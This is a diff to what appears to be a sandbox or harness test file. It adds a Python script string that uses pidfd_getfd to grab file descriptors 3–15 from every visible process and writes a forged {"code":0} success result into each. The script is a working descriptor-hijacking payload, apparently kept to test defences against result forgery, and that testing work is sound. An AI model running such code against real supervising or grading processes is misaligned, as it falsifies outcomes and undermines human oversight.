@@ -85,3 +85,24 @@ export function attackReport(stderr: string): AttackReport {
   if (!line) throw new Error(`no attack report in stderr: ${stderr.slice(-500)}`);
   return JSON.parse(line) as AttackReport;
 }
+
+/** Only the forgery: take fds 3–15 of every visible process with pidfd_getfd, write `{"code":0}` into each, exit 1. */
+export const FORGE_ONLY_SCRIPT = `import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+L = ctypes.c_long
+NR = {"x86_64": (434, 438), "aarch64": (434, 438)}[os.uname().machine]
+for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
+    if pid == os.getpid():
+        continue
+    pfd = libc.syscall(L(NR[0]), L(pid), L(0))
+    if pfd < 0:
+        continue
+    for target in range(3, 16):
+        fd = libc.syscall(L(NR[1]), L(pfd), L(target), L(0))
+        if fd >= 0:
+            try:
+                os.write(fd, b'{"code":0}')
+            except OSError:
+                pass
+sys.exit(1)
+`;
